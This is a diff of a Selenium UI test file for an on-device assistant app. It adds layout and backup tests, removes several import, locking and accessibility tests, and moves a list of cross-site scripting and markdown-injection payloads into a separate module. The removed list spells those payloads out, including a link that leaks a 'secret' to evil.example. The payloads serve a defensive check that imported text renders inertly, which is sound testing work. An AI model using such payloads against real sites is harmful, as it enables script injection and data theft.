@@ -3,26 +3,12 @@
 from __future__ import annotations
 
 import pytest
-from selenium.webdriver.common.by import By
+from hostile import ATTACKS
 from selenium.webdriver.common.keys import Keys
 
 from ondevice.adapters.registry import AdapterRegistry
 from ondevice.base.models import resolve
 from ondevice.profile.records import NewPassage
-
-ATTACKS = [
-    "<script>window.hit=1</script>",
-    "<img src=x onerror=window.hit=1>",
-    "<svg/onload=window.hit=1>",
-    "[click](javascript:window.hit=1)",
-    "![x](https://evil.example/leak?q=secret)",
-    "[x](data:text/html,<script>window.hit=1</script>)",
-    "<a href='https://evil.example'>here</a> https://evil.example/plain",
-    "`<b onmouseover=window.hit=1>`\n```\n</code></pre><script>window.hit=1</script>\n```",
-    "# <iframe src='javascript:window.hit=1'></iframe>\n> <style>*{display:none}</style>",
-    "- **<input autofocus onfocus=window.hit=1>**\n1. _<math><mi xlink:href=javascript:1>_",
-    "\u202e<template><p id='main'></template> <form action=//evil.example><button>x",
-]
 
 
 def test_an_answer_streams_and_is_judged(browser, me):
@@ -219,6 +205,24 @@ def test_memories_are_added_searched_filtered_edited_and_pinned(browser, me):
     browser.says("1 memory", "#count")
 
 
+def test_a_long_memory_is_read_whole_and_the_rows_fit_every_width(browser, me):
+    end = "where nobody asks for the maps that are kept in order there."
+    me.profile.add_fact("The user works at the library, in the map room, " * 6 + end)
+    me.profile.add_fact("The user owns a canoe.")
+    browser.enter("memories")
+    browser.wait(lambda: len(browser.all(".memory")) == 2)
+    assert browser.one(".memory").rect["height"] == 66
+    browser.as_phone()
+    browser.wait(lambda: browser.one(".memory").rect["height"] == 92)
+    first, second = browser.all(".memory")
+    parts = [node.rect for node in first.find_elements("css selector", ".text, .actions")]
+    assert all(part["y"] + part["height"] <= second.rect["y"] for part in parts)
+    browser.all(".memory .text")[1].click()
+    browser.says(end, "dialog .whole")
+    browser.click("Close", "dialog")
+    browser.wait(lambda: not browser.all("dialog"))
+
+
 def test_pending_memories_are_approved(browser, me):
     me.recaller.add_text("I own a canoe.", state="pending")
     browser.enter("memories")
@@ -256,68 +260,6 @@ def test_bulk_forgetting_can_be_undone_and_shows_the_adapters(browser, me, make_
     assert registry.get("mine").state == "stale"
 
 
-def test_files_are_looked_at_then_imported_and_their_source_is_forgotten(browser, me, tmp_path):
-    (tmp_path / "garden.md").write_text("# Garden\n\nThe quinces are ripe in October.\n")
-    (tmp_path / "broken.jsonl").write_text("{not json\n")
-    chat = [f"{n + 1:02d}.03.24, 10:00 - {('Anna', 'Ben')[n % 2]}: note {n}\n" for n in range(20)]
-    (tmp_path / "chat.txt").write_text("".join(chat))
-    browser.enter("import")
-    names = ("garden.md", "broken.jsonl", "chat.txt")
-    browser.one("#files").send_keys("\n".join(str(tmp_path / name) for name in names))
-    browser.says("Who are you?", "#preview")
-    browser.says("not JSON", "#preview .files")
-    assert "0 yours" in browser.text("#preview .files")
-    assert not list(me.profile.passages()), "a preview takes nothing"
-    next(b for b in browser.all("#who label") if b.text == "Ben").click()
-    browser.says("10 yours", "#preview .files")
-    browser.click("Import", "#preview")
-    browser.says("Imported", "#import-status")
-    browser.says("broken.jsonl was left out", ".result")
-    assert str(tmp_path) not in browser.text()
-    own = {p.text for p in me.profile.passages() if p.learn}
-    assert len(own) == 11 and "note 1" in own and "note 0" not in own
-    browser.says("garden", "table")
-    browser.all("table .plain")[-1].click()
-    browser.click("Forget for good", "dialog")
-    browser.wait(lambda: len(browser.all("table tbody tr")) == 1)
-    browser.one("#files").send_keys(str(tmp_path / "garden.md"))
-    browser.click("Cancel", "#preview")
-    browser.says("Nothing was imported.", "#import-status")
-    assert browser.one(".drop").is_displayed()
-
-
-def test_of_a_folder_only_what_can_be_read_is_sent(browser, tmp_path):
-    vault = tmp_path / "vault"
-    (vault / "garden").mkdir(parents=True)
-    (vault / ".obsidian").mkdir()
-    (vault / "garden" / "quince.md").write_text("# Quince\n\nRipe in October.\n")
-    (vault / ".obsidian" / "app.json").write_text("{}")
-    (vault / "picture.png").write_bytes(b"\x89PNG")
-    browser.enter("import")
-    browser.one("#folder").send_keys(str(vault))
-    browser.says("vault/garden/quince.md", "#preview")
-    browser.says("2 other files in the folders were passed over", "#preview")
-    assert "app.json" not in browser.text("#preview")
-
-
-def test_what_files_say_is_only_text(browser, me, tmp_path):
-    lines = [
-        f"{n + 1:02d}.03.24, 10:00 - <img src=x onerror=window.hit={n}>: {attack.split(chr(10))[0]}"
-        for n, attack in enumerate(ATTACKS)
-    ]
-    (tmp_path / "chat.txt").write_text("\n".join(lines))
-    browser.enter("import")
-    browser.one("#files").send_keys(str(tmp_path / "chat.txt"))
-    browser.says("<img src=x", "#preview")
-    browser.one("#who input").click()
-    browser.wait(lambda: browser.all("#who :checked") and "0 yours" not in browser.text("#preview"))
-    browser.click("Import", "#preview")
-    browser.says("Imported", "#import-status")
-    assert browser.all("main :is(img, script, iframe, svg, form)") == []
-    assert browser.driver.execute_script("return window.hit ?? null") is None
-    assert browser.problems() == []
-
-
 def test_adapters_are_shown_with_their_lineage_used_and_removed(browser, me, make_adapter, home):
     fact = me.profile.add_fact("The user owns a canoe.")
     path, _ = make_adapter(1)
@@ -326,7 +268,7 @@ def test_adapters_are_shown_with_their_lineage_used_and_removed(browser, me, mak
     registry.add(path, me.engine.model, name="mine", records=[fact.id])
     browser.enter("adapters")
     browser.click("Use", ".card")
-    browser.says("in use", ".card")
+    browser.says("in use", ".card:first-child")  # the last one is the reader's
     assert [use.name for use in me.engine.active_adapters][-1:] == ["mine"]
     browser.one(".card summary").click()
     browser.says("The user owns a canoe.", ".chain")
@@ -357,18 +299,15 @@ def test_privacy_tells_the_state_and_wipes_only_when_the_name_is_typed(browser, 
     assert not folder.exists()
 
 
-def test_an_export_is_downloaded_and_locking_closes_the_profile(browser, me, tmp_path):
-    from ondevice.profile import key_changes, transfer
-    from ondevice.profile.passphrase import Cost
+def test_an_export_and_a_backup_are_downloaded(browser, me, tmp_path):
+    from ondevice.profile import transfer
 
-    key_changes.set_passphrase(me.profile, "only for tests", cost=Cost(8, 1, 1))
     me.profile.add_fact("The user owns a canoe.")
     home = me.profile.home
     browser.driver.execute_cdp_cmd(
         "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)}
     )
     browser.enter("privacy")
-    browser.says("Its key is kept by your passphrase")
     browser.click("Export…")
     browser.write("dialog input[aria-label=Passphrase]", "another one")
     browser.write("dialog input[aria-label='Passphrase again']", "another one")
@@ -377,11 +316,11 @@ def test_an_export_is_downloaded_and_locking_closes_the_profile(browser, me, tmp
     (file,) = tmp_path.glob("*.ondevice-export")
     assert b"canoe" not in file.read_bytes()
     transfer.import_profile(home, file, name="copy", ask_passphrase=lambda: "another one")
-    browser.click("Lock now")
-    browser.says("is closed", ".lead")
-    browser.go("chat")
-    browser.write("#message", "Hello?\n")
-    browser.says("locked", ".under")
+    browser.click("Back up")
+    browser.wait(lambda: list(tmp_path.glob("*.ondevice-backup")))
+    browser.says("backup", ".plain-list")
+    (file,) = tmp_path.glob("*.ondevice-backup")
+    assert b"canoe" not in file.read_bytes()
 
 
 def test_a_passphrase_a_recovery_code_and_retention_are_set_on_the_page(browser, me):
@@ -446,21 +385,6 @@ def test_a_long_list_holds_only_what_is_seen(browser, me):
     assert len(browser.all(".memory")) < 60
 
 
-def test_everything_can_be_reached_with_the_keyboard_and_has_a_name(browser, me):
-    me.profile.add_fact("The user owns a canoe.")
-    browser.enter("memories")
-    browser.wait(lambda: browser.all(".memory"))
-    for view in VIEWS:
-        browser.go(view)
-        browser.settle()
-        nameless = browser.driver.execute_script(NAMELESS)
-        assert nameless == [], view
-        assert len(browser.all("main h1")) == 1
-    browser.driver.find_element(By.TAG_NAME, "body").send_keys(Keys.TAB)
-    assert browser.driver.switch_to.active_element.tag_name in ("a", "button", "input")
-    assert browser.problems() == []
-
-
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 def test_every_view_fits_a_phone_and_its_text_stands_out(browser, me, scheme):
     me.recaller.add_text("I own a canoe that is painted green and lies behind the mill.")
@@ -503,11 +427,4 @@ return [...document.querySelectorAll('main *, nav *')].filter(node => node.check
     const [a, b] = [light(rgb(getComputedStyle(node).color)), light(behind(node))];
     return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05) < 4.5;
   }).map(node => `${node.outerHTML.slice(0, 80)} ${getComputedStyle(node).color}`);
-"""
-NAMELESS = """
-return [...document.querySelectorAll('button, input, select, textarea, a[href], [role=img]')]
-  .filter(node => node.checkVisibility())
-  .filter(node => !(node.getAttribute('aria-label') || node.textContent.trim()
-    || node.labels?.length || node.title))
-  .map(node => node.outerHTML.slice(0, 100));
 """
